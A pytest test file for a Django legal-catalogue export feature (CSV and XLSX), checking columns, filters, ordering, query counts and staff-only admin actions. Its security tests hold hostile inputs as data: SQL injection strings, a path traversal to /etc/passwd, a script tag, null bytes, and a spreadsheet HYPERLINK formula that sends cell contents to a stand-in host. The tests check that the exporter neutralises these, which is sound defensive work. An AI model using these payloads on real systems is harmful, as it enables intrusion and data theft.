"""Catalogue export (documents.ekspor, /cari/ekspor.csv|xlsx, admin actions):
every column and value of each document type, published products only, the
search's filters and order, hostile parameters, formula injection, constant
query count, and the staff-only admin export."""

import csv
import io
import re
import tempfile
import zipfile
from datetime import date, datetime
from xml.etree import ElementTree

import pytest
from django.contrib import admin
from django.core.exceptions import PermissionDenied
from django.db import connection
from django.test import RequestFactory
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from documents import ekspor
from documents.models import (
    BIDANG_METADATA,
    ProdukHukum,
    StatusBerlaku,
    StatusPublikasi,
)
from documents.subjek import setel_subjek
from documents.tipe import SEMUA_BIDANG_TIPE
from publicsite import selectors_ekspor
from tests.factories import buat_jenis, buat_pengguna, buat_produk, buat_satker

pytestmark = pytest.mark.django_db

CSV = reverse("publicsite:ekspor", args=["csv"])
XLSX = reverse("publicsite:ekspor", args=["xlsx"])
NS = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
DASAR = "http://testserver"


# --- reading the files back -------------------------------------------------


def isi_berkas(respons) -> bytes:
    if getattr(respons, "streaming", False):
        return b"".join(respons.streaming_content)
    return respons.content


def baca_csv(data: bytes) -> list[list[str]]:
    teks = data.decode("utf-8")
    assert teks.startswith("\ufeff"), "CSV harus diawali BOM agar Excel membaca UTF-8"
    return list(csv.reader(io.StringIO(teks[1:], newline="")))


def _indeks_kolom(ref: str) -> int:
    huruf = re.match(r"[A-Z]+", ref).group(0)
    n = 0
    for h in huruf:
        n = n * 26 + (ord(h) - 64)
    return n - 1


def baca_xlsx(data: bytes, lembar: int = 1) -> dict:
    """One sheet (the first: the products) as rows of typed cells: str for
    text, float for numbers (dates too: Excel serials), plus its XML."""
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        assert z.testzip() is None
        lembar_xml = z.read(f"xl/worksheets/sheet{lembar}.xml").decode()
        gaya_xml = z.read("xl/styles.xml").decode()
        bersama = []
        if "xl/sharedStrings.xml" in z.namelist():
            akar = ElementTree.fromstring(z.read("xl/sharedStrings.xml"))
            bersama = ["".join(t.text or "" for t in si.iter(f"{{{NS['m']}}}t")) for si in akar]
    akar = ElementTree.fromstring(lembar_xml)
    baris = []
    gaya = []
    for row in akar.iterfind(".//m:sheetData/m:row", NS):
        nilai, gaya_baris = {}, {}
        for c in row.iterfind("m:c", NS):
            i = _indeks_kolom(c.get("r"))
            assert c.find("m:f", NS) is None, "tidak boleh ada rumus di ekspor"
            t = c.get("t")
            if t == "inlineStr":
                nilai[i] = "".join(x.text or "" for x in c.iter(f"{{{NS['m']}}}t"))
            elif t == "s":
                nilai[i] = bersama[int(c.find("m:v", NS).text)]
            else:
                nilai[i] = float(c.find("m:v", NS).text)
            gaya_baris[i] = int(c.get("s", "0"))
        lebar = max(nilai, default=-1) + 1
        baris.append([nilai.get(i, "") for i in range(lebar)])
        gaya.append(gaya_baris)
    return {"baris": baris, "gaya": gaya, "xml": lembar_xml, "gaya_xml": gaya_xml}


def serial_excel(d) -> float:
    if isinstance(d, datetime):
        delta = d - datetime(1899, 12, 30)
        return delta.days + delta.seconds / 86400
    return float((d - date(1899, 12, 30)).days)


def per_id(rows: list[list], judul: list[str]) -> dict:
    i = judul.index("ID")
    return {int(float(r[i])): dict(zip(judul, r, strict=False)) for r in rows}


def ekspor_csv(client, **params) -> tuple[list[str], dict]:
    respons = client.get(CSV, params)
    assert respons.status_code == 200
    rows = baca_csv(isi_berkas(respons))
    return rows[0], per_id(rows[1:], rows[0])


def ekspor_xlsx(client, **params) -> tuple[list[str], dict]:
    respons = client.get(XLSX, params)
    assert respons.status_code == 200
    rows = baca_xlsx(isi_berkas(respons))["baris"]
    return rows[0], per_id(rows[1:], rows[0])


def id_csv(client, **params) -> list[int]:
    respons = client.get(CSV, params)
    assert respons.status_code == 200
    return [int(r[0]) for r in baca_csv(isi_berkas(respons))[1:]]


# --- data ----------------------------------------------------------------------


@pytest.fixture
def satu_per_tipe():
    """One published product of each document type, every field filled."""
    satker = buat_satker(nama="KPU Kabupaten Kotawaringin Timur", slug="kotim")
    peraturan = buat_produk(
        satker=satker,
        jenis=buat_jenis(singkatan="PKPU-X", nama="Peraturan Uji Ekspor"),
        nomor="7",
        tahun=2024,
        judul="Tahapan Pemilihan — “Bupati” dan Wakil Bupati",
        tanggal_penetapan=date(2024, 3, 4),
        tanggal_pengundangan=date(2024, 3, 5),
        sumber="BN 2024/12",
        status=StatusBerlaku.TIDAK_BERLAKU,
        keterangan_status="Dicabut dengan PKPU 9/2024",
        lokasi="Lemari 2",
        bidang_hukum="Hukum Tata Negara",
        penandatangan="Ketua",
        pemrakarsa="Divisi Hukum",
        abstrak='Baris satu, dengan koma\nBaris dua "kutip"',
        abstrak_dasar_hukum="UU 7/2017",
        abstrak_catatan="Mulai berlaku sejak diundangkan",
        ikut_jdihn=False,
        berkas=True,
    )
    setel_subjek(peraturan, "Pemilihan; Tahapan")
    monografi = buat_produk(
        satker=satker,
        jenis=buat_jenis(singkatan="MON-X", nama="Buku Uji Ekspor", tipe_dokumen="monografi"),
        nomor="B-1",
        tahun=2023,
        judul="Buku Saku Pemilu",
        penulis="Tim Penyusun",
        nomor_panggil="342.07 KPU b",
        isbn="978-602-8519-93-9",
        penerbit="KPU",
        tempat_terbit="Jakarta",
        deskripsi_fisik="xii, 240 hlm.; 21 cm.",
        nomor_induk_buku="NIB-9",
        eksemplar=3,
        berkas=False,
    )
    artikel = buat_produk(
        satker=satker,
        jenis=buat_jenis(singkatan="ART-X", nama="Artikel Uji Ekspor", tipe_dokumen="artikel"),
        nomor="A-1",
        tahun=2022,
        judul="Menimbang Pemilu Serentak",
        penulis="Sari Dewi",
        jurnal="Jurnal Tata Kelola Pemilu",
        volume="4/2",
        halaman="45-67",
        berkas=False,
    )
    putusan = buat_produk(
        satker=satker,
        jenis=buat_jenis(singkatan="PUT-X", nama="Putusan Uji Ekspor", tipe_dokumen="putusan"),
        nomor="P-1",
        tahun=2021,
        judul="Sengketa Hasil",
        lembaga_peradilan="Mahkamah Konstitusi",
        nomor_perkara="12/PHP.BUP-XIX/2021",
        pemohon="Pasangan Calon 1",
        termohon="KPU Kabupaten",
        amar="Menolak permohonan",
        berkekuatan_hukum_tetap=True,
        berkas=False,
    )
    return {"peraturan": peraturan, "monografi": monografi, "artikel": artikel, "putusan": putusan}


def _label(nama):
    return ProdukHukum._meta.get_field(nama).verbose_name


def judul_yang_diharapkan() -> list[str]:
    identitas = ["ID", "Satker", "T.E.U. badan", "Tipe dokumen", "Jenis", "Singkatan jenis"]
    identitas += ["Nomor", "Tahun", "Judul"]
    return (
        identitas
        + [_label(n)[0].upper() + _label(n)[1:] for n in BIDANG_METADATA + SEMUA_BIDANG_TIPE]
        + ["Status publikasi", "Pertama terbit", "Jumlah halaman", "Alamat publik"]
    )


def periksa_nilai(baris: dict, produk: dict, angka=str, tanggal=str):
    """The row values of ``satu_per_tipe``; ``angka``/``tanggal`` say how the
    format writes numbers and dates."""
    p = produk["peraturan"]
    r = baris[p.pk]
    assert r["Satker"] == "KPU Kabupaten Kotawaringin Timur"
    assert r["T.E.U. badan"] == p.satker.teu_badan and r["T.E.U. badan"]
    assert r["Tipe dokumen"] == "Peraturan"
    assert r["Jenis"] == "Peraturan Uji Ekspor"
    assert r["Singkatan jenis"] == "PKPU-X"
    assert r["Nomor"] == "7"
    assert r["Tahun"] == angka(2024)
    assert r["Judul"] == "Tahapan Pemilihan — “Bupati” dan Wakil Bupati"
    assert r["Tanggal penetapan"] == tanggal(date(2024, 3, 4))
    assert r["Tanggal pengundangan"] == tanggal(date(2024, 3, 5))
    assert r["Tempat penetapan"] == "Sampit"
    assert r["Sumber"] == "BN 2024/12"
    assert r["Subjek"] == "Pemilihan; Tahapan"
    assert r["Status"] == "Tidak Berlaku"
    assert r["Keterangan status"] == "Dicabut dengan PKPU 9/2024"
    assert r["Bahasa"] == "Indonesia"
    assert r["Lokasi"] == "Lemari 2"
    assert r["Bidang hukum"] == "Hukum Tata Negara"
    assert r["Penandatangan"] == "Ketua"
    assert r["Pemrakarsa"] == "Divisi Hukum"
    assert r["Abstrak: pokok isi"] == 'Baris satu, dengan koma\nBaris dua "kutip"'
    assert r["Abstrak: dasar hukum"] == "UU 7/2017"
    assert r["Abstrak: catatan"] == "Mulai berlaku sejak diundangkan"
    assert r["Ikut integrasi JDIHN"] == "Tidak"
    assert r["Status publikasi"] == "Terbit"
    assert r["Pertama terbit"] != ""
    assert r["Jumlah halaman"] == angka(p.versi.get().jumlah_halaman)
    assert r["Alamat publik"] == DASAR + p.get_absolute_url()
    for nama in SEMUA_BIDANG_TIPE:
        assert r[_label(nama)[0].upper() + _label(nama)[1:]] == ""

    m = baris[produk["monografi"].pk]
    assert m["Tipe dokumen"] == "Monografi"
    assert m["Penulis/pengarang"] == "Tim Penyusun"
    assert m["Nomor panggil"] == "342.07 KPU b"
    assert m["ISBN"] == "978-602-8519-93-9"
    assert m["Penerbit"] == "KPU"
    assert m["Tempat terbit"] == "Jakarta"
    assert m["Deskripsi fisik"] == "xii, 240 hlm.; 21 cm."
    assert m["Nomor induk buku"] == "NIB-9"
    assert m["Jumlah eksemplar"] == angka(3)
    assert m["Jumlah halaman"] == ""  # no file
    assert m["Ikut integrasi JDIHN"] == "Ya"
    assert m["Berkekuatan hukum tetap"] == ""

    a = baris[produk["artikel"].pk]
    assert a["Tipe dokumen"] == "Artikel"
    assert a["Penulis/pengarang"] == "Sari Dewi"
    assert a["Sumber (jurnal/majalah)"] == "Jurnal Tata Kelola Pemilu"
    assert a["Volume/nomor terbitan"] == "4/2"
    assert a["Halaman"] == "45-67"

    u = baris[produk["putusan"].pk]
    assert u["Tipe dokumen"] == "Putusan"
    assert u["Lembaga peradilan"] == "Mahkamah Konstitusi"
    assert u["Nomor perkara"] == "12/PHP.BUP-XIX/2021"
    assert u["Pemohon/penggugat"] == "Pasangan Calon 1"
    assert u["Termohon/tergugat"] == "KPU Kabupaten"
    assert u["Amar putusan"] == "Menolak permohonan"
    assert u["Berkekuatan hukum tetap"] == "Ya"


# --- content -------------------------------------------------------------------


def test_csv_memuat_setiap_kolom_dan_nilai_setiap_tipe(client, satu_per_tipe):
    judul, baris = ekspor_csv(client)
    assert judul == judul_yang_diharapkan()
    assert set(baris) == {p.pk for p in satu_per_tipe.values()}
    periksa_nilai(baris, satu_per_tipe)
    p = ProdukHukum.objects.get(pk=satu_per_tipe["peraturan"].pk)
    terbit = timezone.localtime(p.diterbitkan_pada).strftime("%Y-%m-%d %H:%M:%S")
    assert baris[p.pk]["Pertama terbit"] == terbit


def test_xlsx_memuat_setiap_kolom_dengan_angka_dan_tanggal_bertipe(client, satu_per_tipe):
    respons = client.get(XLSX)
    assert respons.status_code == 200
    assert respons["Content-Type"] == ekspor.TIPE_XLSX
    lembar = baca_xlsx(isi_berkas(respons))
    judul = lembar["baris"][0]
    assert judul == judul_yang_diharapkan()
    baris = per_id(lembar["baris"][1:], judul)
    periksa_nilai(baris, satu_per_tipe, angka=float, tanggal=serial_excel)
    p = ProdukHukum.objects.get(pk=satu_per_tipe["peraturan"].pk)
    terbit = timezone.localtime(p.diterbitkan_pada).replace(tzinfo=None, microsecond=0)
    assert baris[p.pk]["Pertama terbit"] == pytest.approx(serial_excel(terbit), abs=1e-5)
    # Header bold, frozen, filterable; the date cells carry a date format.
    assert '<pane ySplit="1"' in lembar["xml"] and 'state="frozen"' in lembar["xml"]
    assert re.search(r'<autoFilter ref="A1:[A-Z]+5"/>', lembar["xml"])
    assert "<b/>" in lembar["gaya_xml"] and 'formatCode="yyyy-mm-dd"' in lembar["gaya_xml"]
    i = judul.index("Tanggal penetapan")
    baris_p = next(n for n, r in enumerate(lembar["baris"]) if r[0] == float(p.pk))
    assert lembar["gaya"][baris_p][i] != lembar["gaya"][baris_p][judul.index("ID")]


def test_nama_berkas_bertanggal_dan_csv_dialirkan(client):
    buat_produk(berkas=False)
    hari = timezone.localdate().strftime("%Y%m%d")
    respons = client.get(CSV)
    assert respons.streaming
    assert respons["Content-Type"] == "text/csv; charset=utf-8"
    assert respons["Content-Disposition"] == f'attachment; filename="jdih-kpu-{hari}.csv"'
    isi_berkas(respons)
    respons = client.get(XLSX)
    assert f'filename="jdih-kpu-{hari}.xlsx"' in respons["Content-Disposition"]
    isi_berkas(respons)
    respons.close()


def test_berkas_sementara_xlsx_dihapus_setelah_dikirim(client, monkeypatch, tmp_path):
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    buat_produk(berkas=False)
    respons = client.get(XLSX)
    assert len(list(tmp_path.glob("ekspor-*.xlsx"))) == 1
    isi_berkas(respons)
    respons.close()
    assert list(tmp_path.glob("ekspor-*.xlsx")) == []


def test_katalog_kosong_tetap_berkas_sah(client):
    assert baca_csv(isi_berkas(client.get(CSV))) == [judul_yang_diharapkan()]
    lembar = baca_xlsx(isi_berkas(client.get(XLSX)))
    assert lembar["baris"] == [judul_yang_diharapkan()]


# --- only what is public ---------------------------------------------------------


def test_produk_draf_dan_diturunkan_tidak_pernah_diekspor(client):
    terbit = buat_produk(berkas=False, judul="Terbit")
    buat_produk(berkas=False, terbit=False, judul="Draf")
    turun = buat_produk(berkas=False, judul="Diturunkan")
    ProdukHukum.objects.filter(pk=turun.pk).update(status_publikasi=StatusPublikasi.DITURUNKAN)
    assert id_csv(client) == [terbit.pk]
    assert set(ekspor_xlsx(client)[1]) == {terbit.pk}
    # Not through a filter that names them either.
    assert id_csv(client, q="Draf") == []
    assert id_csv(client, q="Diturunkan", urut="terbaru") == []


# --- the search's criteria ---------------------------------------------------------


def test_saringan_jenis_tahun_satker_status_berlaku(client):
    jenis, satker = buat_jenis(), buat_satker()
    cocok = buat_produk(satker=satker, jenis=jenis, tahun=2019, berkas=False)
    buat_produk(jenis=jenis, tahun=2019, berkas=False)  # other satker
    buat_produk(satker=satker, tahun=2019, berkas=False)  # other jenis
    buat_produk(satker=satker, jenis=jenis, tahun=2020, berkas=False)
    dicabut = buat_produk(
        satker=satker, jenis=jenis, tahun=2019, status=StatusBerlaku.TIDAK_BERLAKU, berkas=False
    )
    kriteria = {"jenis": jenis.pk, "tahun": 2019, "satker": satker.slug}
    assert sorted(id_csv(client, **kriteria)) == sorted([cocok.pk, dicabut.pk])
    assert id_csv(client, **kriteria, status="tidak-berlaku") == [dicabut.pk]
    assert set(ekspor_xlsx(client, **kriteria, status="berlaku")[1]) == {cocok.pk}


def test_saringan_tipe_dokumen_berlaku(client, satu_per_tipe):
    assert id_csv(client, tipe="putusan") == [satu_per_tipe["putusan"].pk]
    assert id_csv(client, tipe="monografi") == [satu_per_tipe["monografi"].pk]


def test_kata_kunci_dan_urutan_sama_dengan_halaman_cari(client):
    for n in range(6):
        buat_produk(berkas=False, judul=f"Penetapan Rekapitulasi Suara {n}", tahun=2018 + n)
    buat_produk(berkas=False, judul="Pengadaan Logistik")
    for urut in ("", "relevansi", "terbaru", "terlama"):
        halaman = client.get("/cari/", {"q": "rekapitulasi", "urut": urut})
        diharapkan = [p.pk for p in halaman.context["hasil"]]
        assert len(diharapkan) == 6
        assert id_csv(client, q="rekapitulasi", urut=urut) == diharapkan


@pytest.mark.skipif(
    connection.vendor != "postgresql",
    reason="Jendela relevansi BATAS_HASIL hanya ada pada pencarian PostgreSQL.",
)
def test_urutan_relevansi_terbatas_jendela_urutan_tanggal_semua(client, monkeypatch):
    from publicsite import selectors

    for n in range(5):
        buat_produk(berkas=False, judul=f"Rekapitulasi Suara Tahap {n}")
    monkeypatch.setattr(selectors, "BATAS_HASIL", 3)
    assert len(id_csv(client, q="rekapitulasi")) == 3
    assert len(id_csv(client, q="rekapitulasi", urut="terbaru")) == 5
    data = isi_berkas(client.get(XLSX, {"q": "rekapitulasi"}))
    assert "Pilih urutan tanggal" in dict(baca_xlsx(data, lembar=2)["baris"])["Urutan"]


def test_ekspor_memuat_semua_halaman_bukan_hanya_20(client):
    produk = [buat_produk(berkas=False) for _ in range(25)]
    halaman = client.get("/cari/")
    assert len(halaman.context["hasil"]) == 20
    diharapkan = [p.pk for p in halaman.context["hasil"]]
    semua = id_csv(client, halaman=2)  # the page number means nothing to the export
    assert sorted(semua) == sorted(p.pk for p in produk)
    assert semua[:20] == diharapkan


def test_batas_ekspor_publik_dan_catatan_pemotongan(client, monkeypatch):
    for _ in range(5):
        buat_produk(berkas=False)
    monkeypatch.setattr(selectors_ekspor, "BATAS_EKSPOR", 3)
    monkeypatch.setattr(selectors_ekspor, "BATAS_EKSPOR_XLSX", 4)
    assert len(id_csv(client)) == 3
    data = isi_berkas(client.get(XLSX, {"tahun": 2024}))
    assert len(baca_xlsx(data)["baris"]) == 1 + 4
    keterangan = dict(baca_xlsx(data, lembar=2)["baris"])
    assert keterangan["Sumber"] == DASAR + "/cari/?tahun=2024"
    assert keterangan["Jumlah produk"] == "4"
    assert "dipotong pada 4 produk" in keterangan["Catatan"]


def test_keterangan_xlsx_tanpa_catatan_bila_lengkap(client):
    buat_produk(berkas=False)
    keterangan = dict(baca_xlsx(isi_berkas(client.get(XLSX)), lembar=2)["baris"])
    assert keterangan["Sumber"] == DASAR + "/cari/"
    assert keterangan["Jumlah produk"] == "1"
    assert "Catatan" not in keterangan and "Diekspor pada" in keterangan


# --- hostile requests ------------------------------------------------------------


@pytest.mark.parametrize(
    "params",
    [
        {"tahun": "abc"},
        {"tahun": "-1"},
        {"tahun": "99999999999999999999"},
        {"jenis": "1 OR 1=1"},
        {"jenis": "99999999"},
        {"satker": "../../etc/passwd"},
        {"status": "<script>"},
        {"urut": "id; DROP TABLE"},
        {"q": "a\x00b"},
        {"q": "x" * 10_000},
        {"q": "\"'()&|!:*<->"},
        {"nomor": "\x00"},
        {"bidang": "%00"},
    ],
)
@pytest.mark.parametrize("url", [CSV, XLSX])
def test_parameter_jahat_tidak_pernah_500(client, url, params):
    buat_produk(berkas=False)
    respons = client.get(url, params)
    assert respons.status_code < 500
    if respons.status_code == 200:
        data = isi_berkas(respons)
        if url == CSV:
            assert baca_csv(data)[0] == judul_yang_diharapkan()
        else:
            assert baca_xlsx(data)["baris"][0] == judul_yang_diharapkan()


def test_nilai_saringan_salah_diabaikan_sisanya_berlaku(client):
    jenis = buat_jenis()
    cocok = buat_produk(jenis=jenis, berkas=False)
    buat_produk(berkas=False)
    assert id_csv(client, jenis=jenis.pk, tahun="abc") == [cocok.pk]


@pytest.mark.parametrize("format", ["pdf", "json", "CSV", "xls", "csv.exe", ""])
def test_format_tak_dikenal_404(client, format):
    assert client.get(f"/cari/ekspor.{format}").status_code == 404


def test_hanya_get_dan_head(client):
    buat_produk(berkas=False)
    assert client.post(CSV).status_code == 405
    head = client.head(XLSX)
    assert head.status_code == 200
    assert head["Content-Type"] == ekspor.TIPE_XLSX
    assert "attachment" in head["Content-Disposition"]


def test_injeksi_rumus_dinetralkan(client):
    produk = buat_produk(
        berkas=False,
        judul='=HYPERLINK("http://jahat.example/?"&A1,"klik")',
        nomor="+62-811",
        abstrak="@SUM(1+1)",
        sumber="-2+3",
        keterangan_status="\tTab",
        pemrakarsa="\rCR",
        penandatangan="Ketua = Anggota",
    )
    _, baris = ekspor_csv(client)
    r = baris[produk.pk]
    assert r["Judul"] == "'" + produk.judul
    assert r["Nomor"] == "'+62-811"
    assert r["Abstrak: pokok isi"] == "'@SUM(1+1)"
    assert r["Sumber"] == "'-2+3"
    assert r["Keterangan status"] == "'\tTab"
    assert r["Pemrakarsa"] == "'\rCR"
    assert r["Penandatangan"] == "Ketua = Anggota"
    # XLSX keeps the exact text, stored as text (baca_xlsx refuses any formula).
    _, baris = ekspor_xlsx(client)
    assert baris[produk.pk]["Judul"] == produk.judul
    assert baris[produk.pk]["Nomor"] == "+62-811"


def test_karakter_kendali_tidak_merusak_xlsx(client):
    produk = buat_produk(berkas=False, judul="Judul\x07dengan\x1bkendali _x0041_")
    _, baris = ekspor_xlsx(client)
    assert baris[produk.pk]["Judul"].endswith("_x0041_")


# --- query count -------------------------------------------------------------------


def _jumlah_kueri(client, url, **params) -> int:
    with CaptureQueriesContext(connection) as kueri:
        respons = client.get(url, params)
        assert respons.status_code == 200
        isi_berkas(respons)
    return len(kueri)


@pytest.mark.parametrize("url", [CSV, XLSX])
def test_jumlah_kueri_tetap_5_atau_50_produk(client, url):
    satker, jenis = buat_satker(), buat_jenis()
    for n in range(5):
        buat_produk(satker=satker, jenis=jenis, berkas=n == 0)
    # Warm the search filters' cache first: the search page and the export
    # share it, and a catalogue change empties it.
    id_csv(client)
    sedikit = _jumlah_kueri(client, url)
    sedikit_q = _jumlah_kueri(client, url, q="penetapan", tahun=2024)
    for _ in range(45):
        buat_produk(berkas=False)
    assert len(id_csv(client)) == 50
    assert _jumlah_kueri(client, url) == sedikit
    assert _jumlah_kueri(client, url, q="penetapan", tahun=2024) == sedikit_q


def test_baris_ekspor_satu_kueri_berapa_pun_produknya(django_assert_num_queries):
    satker = buat_satker()
    for n in range(12):
        buat_produk(satker=satker, jenis=buat_jenis(), berkas=n < 2)
    with django_assert_num_queries(1):
        baris = list(ekspor.baris_ekspor(ProdukHukum.objects.all(), ekspor.daftar_kolom()))
    assert len(baris) == 12
    with django_assert_num_queries(1):
        list(ekspor.alirkan_csv(ProdukHukum.objects.all(), dasar_url=DASAR))


# --- the search page links -----------------------------------------------------


def test_halaman_cari_menautkan_unduhan_dengan_kueri_tanpa_halaman(client):
    jenis = buat_jenis()
    for _ in range(21):
        buat_produk(jenis=jenis, berkas=False)
    html = client.get("/cari/", {"jenis": jenis.pk, "tahun": 2024, "halaman": 2}).content.decode()
    tautan = re.findall(r'href="(/cari/ekspor\.(?:csv|xlsx)[^"]*)"', html)
    assert len(tautan) == 2
    for t in tautan:
        assert f"jenis={jenis.pk}" in t and "tahun=2024" in t and "halaman" not in t
    assert "Unduh hasil" in html


# --- admin actions -------------------------------------------------------------------


def _permintaan_admin(user):
    request = RequestFactory().post("/admin/documents/produkhukum/")
    request.user = user
    return request


def _model_admin():
    return admin.site._registry[ProdukHukum]


def test_aksi_admin_mengekspor_terpilih_termasuk_draf():
    assert ekspor.ekspor_csv.short_description == "Ekspor terpilih ke CSV"
    assert ekspor.ekspor_xlsx.short_description == "Ekspor terpilih ke XLSX"
    terbit = buat_produk(berkas=False)
    draf = buat_produk(berkas=False, terbit=False)
    turun = buat_produk(berkas=False)
    ProdukHukum.objects.filter(pk=turun.pk).update(status_publikasi=StatusPublikasi.DITURUNKAN)
    buat_produk(berkas=False)  # not selected
    pilihan = ProdukHukum.objects.filter(pk__in=[terbit.pk, draf.pk, turun.pk])
    super_ = buat_pengguna(is_staff=True, is_superuser=True)

    respons = ekspor.ekspor_csv(_model_admin(), _permintaan_admin(super_), pilihan)
    rows = baca_csv(isi_berkas(respons))
    baris = per_id(rows[1:], rows[0])
    assert set(baris) == {terbit.pk, draf.pk, turun.pk}
    assert baris[draf.pk]["Status publikasi"] == "Draf"
    assert baris[turun.pk]["Status publikasi"] == "Diturunkan (sedang diperbaiki)"
    assert "attachment" in respons["Content-Disposition"]

    respons = ekspor.ekspor_xlsx(_model_admin(), _permintaan_admin(super_), pilihan)
    data = isi_berkas(respons)
    respons.close()
    rows = baca_xlsx(data)["baris"]
    assert set(per_id(rows[1:], rows[0])) == {terbit.pk, draf.pk, turun.pk}
    keterangan = dict(baca_xlsx(data, lembar=2)["baris"])
    assert keterangan["Diekspor oleh"] == super_.username
    assert keterangan["Jumlah produk"] == "3"


def test_aksi_admin_ditolak_bagi_bukan_staf(client):
    bukan_staf = buat_pengguna()
    draf = buat_produk(berkas=False, terbit=False)
    pilihan = ProdukHukum.objects.filter(pk=draf.pk)
    for aksi in (ekspor.ekspor_csv, ekspor.ekspor_xlsx):
        with pytest.raises(PermissionDenied):
            aksi(_model_admin(), _permintaan_admin(bukan_staf), pilihan)
    # Through the admin itself: sent to the login page, no file.
    client.force_login(bukan_staf)
    respons = client.post(
        reverse("admin:documents_produkhukum_changelist"),
        {"action": "ekspor_csv", "_selected_action": [draf.pk]},
    )
    assert respons.status_code == 302 and "/login/" in respons["Location"]


def test_aksi_admin_terdaftar_mengunduh_dari_daftar_produk(client):
    nama = {getattr(a, "__name__", a) for a in (_model_admin().actions or [])}
    if "ekspor_csv" not in nama:
        pytest.skip("Aksi ekspor belum didaftarkan pada ProdukHukumAdmin.")
    draf = buat_produk(berkas=False, terbit=False)
    client.force_login(buat_pengguna(is_staff=True, is_superuser=True))
    for aksi in ("ekspor_csv", "ekspor_xlsx"):
        respons = client.post(
            reverse("admin:documents_produkhukum_changelist"),
            {"action": aksi, "_selected_action": [draf.pk]},
        )
        assert respons.status_code == 200
        assert "attachment" in respons["Content-Disposition"]
        isi_berkas(respons)
